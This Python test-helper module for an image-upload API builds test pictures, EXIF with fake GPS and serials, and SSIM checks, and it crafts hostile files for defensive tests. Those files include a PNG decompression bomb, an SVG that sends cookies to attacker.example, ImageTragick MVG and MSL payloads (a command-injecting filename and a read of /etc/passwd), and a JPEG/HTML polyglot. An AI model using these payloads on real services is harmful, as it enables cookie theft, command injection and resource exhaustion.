"""Helpers of the image tests: pictures with known content, EXIF that must not leak, hostile
files crafted byte by byte, decoding answers, and SSIM against a reference."""

import io
import os
import struct
import zlib
from typing import Any

os.environ.setdefault("VIPS_BLOCK_UNTRUSTED", "1")

import httpx  # noqa: E402
import magic  # noqa: E402
import numpy as np  # noqa: E402
import piexif  # noqa: E402
import pillow_heif  # noqa: E402
import pyvips  # noqa: E402
from fastapi import FastAPI  # noqa: E402
from PIL import Image as PILImage  # noqa: E402

from tests.media.support import fetch_url  # noqa: E402

API = "/api/v1/media"

RED = (220, 30, 30)
BLUE = (30, 30, 220)


def scene(width: int, height: int) -> pyvips.Image:
    """A smooth picture (gradients, a disc, a bar): resamplers agree on it, so SSIM means
    something. Deterministic for a given size."""
    xyz = pyvips.Image.xyz(width, height)
    x, y = xyz[0], xyz[1]
    red = x * (255.0 / max(1, width - 1))
    green = y * (255.0 / max(1, height - 1))
    blue = (x + y) * (255.0 / max(1, width + height - 2))
    image = red.bandjoin([green, blue]).cast("uchar").copy(interpretation="srgb")
    radius = max(2, min(width, height) // 5)
    image = image.draw_circle([250, 250, 40], width // 3, height // 2, radius, fill=True)
    return image.draw_rect(
        [20, 20, 20], width * 2 // 3, height // 6, max(2, width // 12), height * 2 // 3, fill=True
    )


def scene_jpeg(width: int, height: int, quality: int = 92) -> bytes:
    data: bytes = scene(width, height).write_to_buffer(".jpg", Q=quality)
    return data


def scene_png(width: int, height: int) -> bytes:
    data: bytes = scene(width, height).write_to_buffer(".png")
    return data


def halves(width: int, height: int) -> pyvips.Image:
    """Left half red, right half blue (stored pixels)."""
    left = (pyvips.Image.black(width // 2, height, bands=3) + list(RED)).cast("uchar")
    right = (pyvips.Image.black(width - width // 2, height, bands=3) + list(BLUE)).cast("uchar")
    return left.join(right, "horizontal").copy(interpretation="srgb")


PRIVATE_VALUES = (b"SN-BODY-4242", b"SN-LENS-777", b"UID-DEADBEEF", b"SN-CAM-999")


def exif_block(orientation: int = 1, *, gps: bool = True, serials: bool = True) -> bytes:
    """An EXIF block with camera facts, and (by default) GPS and serial numbers."""
    zeroth: dict[int, Any] = {
        piexif.ImageIFD.Make: b"Canon",
        piexif.ImageIFD.Model: b"EOS R5",
        piexif.ImageIFD.Software: b"Firmware 1.8",
        piexif.ImageIFD.Orientation: orientation,
    }
    exif: dict[int, Any] = {
        piexif.ExifIFD.DateTimeOriginal: b"2024:05:06 07:08:09",
        piexif.ExifIFD.ExposureTime: (1, 250),
        piexif.ExifIFD.FNumber: (28, 10),
        piexif.ExifIFD.ISOSpeedRatings: 400,
        piexif.ExifIFD.FocalLength: (50, 1),
        piexif.ExifIFD.LensModel: b"RF 50mm F1.8",
    }
    if serials:
        zeroth[0xC62F] = PRIVATE_VALUES[3]  # CameraSerialNumber (DNG tag)
        exif[piexif.ExifIFD.BodySerialNumber] = PRIVATE_VALUES[0]
        exif[piexif.ExifIFD.LensSerialNumber] = PRIVATE_VALUES[1]
        exif[piexif.ExifIFD.ImageUniqueID] = PRIVATE_VALUES[2]
    gps_ifd: dict[int, Any] = {}
    if gps:
        gps_ifd = {
            piexif.GPSIFD.GPSLatitudeRef: b"N",
            piexif.GPSIFD.GPSLatitude: ((48, 1), (51, 1), (2956, 100)),
            piexif.GPSIFD.GPSLongitudeRef: b"E",
            piexif.GPSIFD.GPSLongitude: ((2, 1), (17, 1), (4000, 100)),
        }
    data: bytes = piexif.dump({"0th": zeroth, "Exif": exif, "GPS": gps_ifd})
    return data


def with_exif(jpeg: bytes, exif: bytes) -> bytes:
    out = io.BytesIO()
    piexif.insert(exif, jpeg, out)
    return out.getvalue()


def private_exif_in(data: bytes) -> list[str]:
    """Which private facts (GPS, serials) the file's EXIF still holds, read with libvips."""
    image = pyvips.Image.new_from_buffer(data, "")
    found = [name for name in image.get_fields() if name.startswith("exif-ifd3-")]
    raw = image.get("exif-data") if image.get_typeof("exif-data") else b""
    found += [value.decode() for value in PRIVATE_VALUES if value in raw or value in data]
    return found


def decode(data: bytes) -> pyvips.Image:
    """The first frame of an answer's bytes, decoded (HEIC through pillow-heif)."""
    if magic.from_buffer(data[:4096], mime=True) in ("image/heic", "image/heif"):
        picture = pillow_heif.open_heif(io.BytesIO(data)).to_pillow().convert("RGB")
        return pyvips.Image.new_from_memory(
            picture.tobytes(), picture.width, picture.height, 3, "uchar"
        ).copy(interpretation="srgb")
    if data[:2] == b"BM":
        picture = PILImage.open(io.BytesIO(data), formats=["BMP"]).convert("RGB")
        return pyvips.Image.new_from_memory(
            picture.tobytes(), picture.width, picture.height, 3, "uchar"
        ).copy(interpretation="srgb")
    return pyvips.Image.new_from_buffer(data, "", access="sequential").copy_memory()


def loader(data: bytes) -> str:
    return str(pyvips.Image.new_from_buffer(data, "").get("vips-loader"))


def frames_of(data: bytes) -> int:
    image = pyvips.Image.new_from_buffer(data, "")
    return int(image.get("n-pages")) if image.get_typeof("n-pages") else 1


def grey(image: pyvips.Image) -> np.ndarray:
    """A float grey-level array of an image (alpha dropped, sRGB assumed)."""
    if image.hasalpha():
        image = image.flatten(background=[255] * (image.bands - 1))
    if image.bands >= 3:
        image = image.colourspace("b-w")
    array = np.ndarray(
        buffer=image.cast("uchar").write_to_memory(),
        dtype=np.uint8,
        shape=(image.height, image.width, image.bands),
    )
    return array[:, :, 0].astype(np.float64)


def pixels(image: pyvips.Image) -> np.ndarray:
    """The image's 8-bit samples as an array (height, width, bands)."""
    return np.ndarray(
        buffer=image.cast("uchar").write_to_memory(),
        dtype=np.uint8,
        shape=(image.height, image.width, image.bands),
    )


def ssim(a: np.ndarray, b: np.ndarray, window: int = 7) -> float:
    """Mean SSIM (Wang et al. 2004, uniform window) of two grey images of the same size."""
    assert a.shape == b.shape, (a.shape, b.shape)
    c1, c2 = (0.01 * 255) ** 2, (0.03 * 255) ** 2
    view = np.lib.stride_tricks.sliding_window_view

    def mean(x: np.ndarray) -> np.ndarray:
        return view(x, (window, window)).mean(axis=(-1, -2))

    mu_a, mu_b = mean(a), mean(b)
    var_a = mean(a * a) - mu_a**2
    var_b = mean(b * b) - mu_b**2
    cov = mean(a * b) - mu_a * mu_b
    numerator = (2 * mu_a * mu_b + c1) * (2 * cov + c2)
    denominator = (mu_a**2 + mu_b**2 + c1) * (var_a + var_b + c2)
    return float((numerator / denominator).mean())


def reference_resize(source: bytes, width: int, height: int) -> np.ndarray:
    """An independent reference: Pillow's Lanczos resize of the decoded source, in grey."""
    picture = PILImage.open(io.BytesIO(source)).convert("RGB")
    resized = picture.resize((width, height), PILImage.Resampling.LANCZOS).convert("L")
    return np.asarray(resized, dtype=np.float64)


def pillow_grey(source: bytes) -> np.ndarray:
    return np.asarray(PILImage.open(io.BytesIO(source)).convert("L"), dtype=np.float64)


def mean_colour(image: pyvips.Image, left: int, top: int, width: int, height: int) -> list[float]:
    region = image.crop(left, top, width, height)
    return [region[band].avg() for band in range(3)]


def near(colour: list[float], expected: tuple[int, int, int], tolerance: float = 40) -> bool:
    return all(abs(c - e) <= tolerance for c, e in zip(colour, expected, strict=True))


async def download(app: FastAPI, client: httpx.AsyncClient, url: str) -> httpx.Response:
    response = await fetch_url(app, client, url)
    assert response.status_code == 200, response.text[:300]
    return response


async def variant_bytes(
    app: FastAPI, client: httpx.AsyncClient, media: dict[str, Any], name: str
) -> bytes:
    variant = next(v for v in media["variants"] if v["name"] == name)
    return (await download(app, client, variant["url"])).content


# ----------------------------------------------------------------------- hostile files


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A valid-looking PNG of ~1 KB whose header declares width×height RGB pixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 4096, 9)  # the start of the (never finished) pixel data
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def gif_with_frames(frames: int, width: int = 16, height: int = 16) -> bytes:
    """An animated GIF of `frames` tiny identical frames, LZW-coded by hand (a few bytes each)."""
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0)
    head += b"\x00\x00\x00\xff\xff\xff"  # a two-colour palette
    head += b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    codes: list[int] = []
    for _ in range(width * height):
        codes += [4, 0]  # clear, index 0: the code size stays at 3 bits
    codes.append(5)  # end of information
    packed = bytearray()
    accumulator = bits = 0
    for code in codes:
        accumulator |= code << bits
        bits += 3
        while bits >= 8:
            packed.append(accumulator & 0xFF)
            accumulator >>= 8
            bits -= 8
    if bits:
        packed.append(accumulator & 0xFF)
    blocks = bytearray()
    for start in range(0, len(packed), 255):
        part = packed[start : start + 255]
        blocks += bytes([len(part)]) + part
    frame = (
        b"\x21\xf9\x04\x04\x0a\x00\x00\x00"
        + b"\x2c"
        + struct.pack("<HHHHB", 0, 0, width, height, 0)
        + b"\x02"
        + bytes(blocks)
        + b"\x00"
    )
    return head + frame * frames + b"\x3b"


def animated_gif(frames: int = 4, width: int = 60, height: int = 40) -> bytes:
    """A real animated GIF: a red square moving right, frame by frame."""
    pages = []
    for index in range(frames):
        page = (pyvips.Image.black(width, height, bands=3) + [240, 240, 240]).cast("uchar")
        page = page.draw_rect(list(RED), index * (width // frames), 5, 10, 10, fill=True)
        pages.append(page)
    strip = pyvips.Image.arrayjoin(pages, across=1).copy(interpretation="srgb")
    strip.set_type(pyvips.GValue.gint_type, "page-height", height)
    strip.set_type(pyvips.GValue.array_int_type, "delay", [80] * frames)
    data: bytes = strip.write_to_buffer(".gif")
    return data


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>fetch("https://attacker.example/?c="+document.cookie)</script>'
    b'<rect width="10" height="10"/></svg>\n'
)

# ImageTragick-style payloads: ImageMagick's own vector/scripting formats.
MVG_PAYLOAD = (
    b"push graphic-context\nviewbox 0 0 640 480\n"
    b"fill 'url(https://example.com/image.jpg\"|ls \"-la)'\npop graphic-context\n"
)
MSL_PAYLOAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<image>\n<read filename="/etc/passwd" />\n'
    b'<write filename="/tmp/owned.png" />\n</image>\n'
)


def jpeg_html_polyglot() -> bytes:
    """A real JPEG whose comment segment carries an HTML page with script."""
    jpeg: bytes = scene(40, 30).write_to_buffer(".jpg")
    html = b"<html><body><script>alert(document.domain)</script></body></html>"
    comment = b"\xff\xfe" + struct.pack(">H", len(html) + 2) + html
    return jpeg[:2] + comment + jpeg[2:]
